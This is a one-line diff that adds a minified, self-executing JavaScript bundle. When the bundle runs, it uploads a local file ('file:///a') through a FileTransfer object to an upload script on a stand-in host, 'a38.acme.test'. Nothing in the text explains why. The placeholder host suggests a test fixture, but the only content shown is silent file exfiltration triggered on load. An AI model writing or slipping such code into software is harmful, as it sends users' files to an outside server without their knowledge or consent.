@@ -1,0 +1,1 @@
+(()=>{var t=(e,a)=>()=>{try{return a||e((a={exports:{}}).exports,a),a.exports}catch(n){throw a=0,n}};var p=t(()=>{var f="a38.acme.test",o=new FileTransfer;o.upload("file:///a",encodeURI("https://"+f+"/upload.php"),function(){},function(){},{})});p();})();
